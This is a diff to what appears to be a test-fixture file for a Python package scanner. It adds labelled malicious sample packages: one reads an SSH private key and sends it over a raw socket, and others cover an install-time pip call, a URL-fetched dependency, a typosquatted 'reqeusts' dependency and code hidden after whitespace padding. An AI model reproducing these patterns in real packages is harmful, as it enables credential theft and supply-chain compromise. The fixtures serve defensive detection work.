@@ -491,6 +491,55 @@ MALICIOUS: dict[str, tuple[str, bytes]] = {
             extra_metadata="Project-URL: Homepage, https://github.com/example/acme-widgets\n",
         ),
     ),
+    # A raw socket carries a private key away; setup.py installs packages itself; declared
+    # dependencies that are fetched from a URL or imitate a popular project.
+    "exfiltration:raw-socket": (
+        "rawsock-0.1-py3-none-any.whl",
+        wheel(
+            "rawsock",
+            "0.1",
+            {
+                "rawsock/__init__.py": "import socket\n\n\ndef beam():\n    key = open('/home/u/.ssh/id_rsa').read()\n    s = socket.socket()\n    s.connect(('127.0.0.1', 9))\n    s.sendall(key.encode())\n",
+            },
+        ),
+    ),
+    "install-time-pip": (
+        "pipper-0.1.tar.gz",
+        sdist(
+            "pipper",
+            "0.1",
+            {
+                "setup.py": "import subprocess, sys\nfrom setuptools import setup\n\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'helperlib'])\nsetup(name='pipper', version='0.1')\n",
+                "pipper/__init__.py": "def hello():\n    return 1\n",
+            },
+        ),
+    ),
+    "url-dependency": (
+        "urldep-0.1-py3-none-any.whl",
+        wheel(
+            "urldep",
+            "0.1",
+            {"urldep/__init__.py": "def hello():\n    return 1\n"},
+            requires="Requires-Dist: helper @ https://example.invalid/helper-1.0.tar.gz\n",
+        ),
+    ),
+    "typosquat-dependency": (
+        "squatdep-0.1-py3-none-any.whl",
+        wheel(
+            "squatdep",
+            "0.1",
+            {"squatdep/__init__.py": "def hello():\n    return 1\n"},
+            requires="Requires-Dist: reqeusts>=2\n",
+        ),
+    ),
+    "off-screen-code:mixed-blanks": (
+        "offmix-0.1-py3-none-any.whl",
+        wheel(
+            "offmix",
+            "0.1",
+            {"offmix/__init__.py": "x = 1" + "  \t   \t\t  " * 20 + "import os;os.getcwd()\n"},
+        ),
+    ),
 }
 BENIGN: dict[str, bytes] = {
     "tidy-1.0-py3-none-any.whl": wheel(
@@ -557,9 +606,10 @@ BENIGN: dict[str, bytes] = {
         {
             "layered/__init__.py": "import ujson\nfrom ._version import get_version\nfrom .net import fetch\n\n__version__ = get_version()\n",
             "layered/_version.py": "def get_version():\n    return '1.0'\n",
-            "layered/net.py": "import urllib.request\n\n\ndef fetch(url):\n    return urllib.request.urlopen(url).read()\n",
+            "layered/net.py": "import socket, urllib.request\n\n\ndef fetch(url):\n    return urllib.request.urlopen(url).read()\n\n\n"
+            "def ping(host):\n    s = socket.socket()\n    s.connect((host, 80))\n    s.close()\n",
         },
-        requires="Requires-Dist: ujson\n",
+        requires="Requires-Dist: ujson\nRequires-Dist: requests>=2\n",
     ),
     "python-gadget-1.0.tar.gz": sdist(
         "python-gadget",
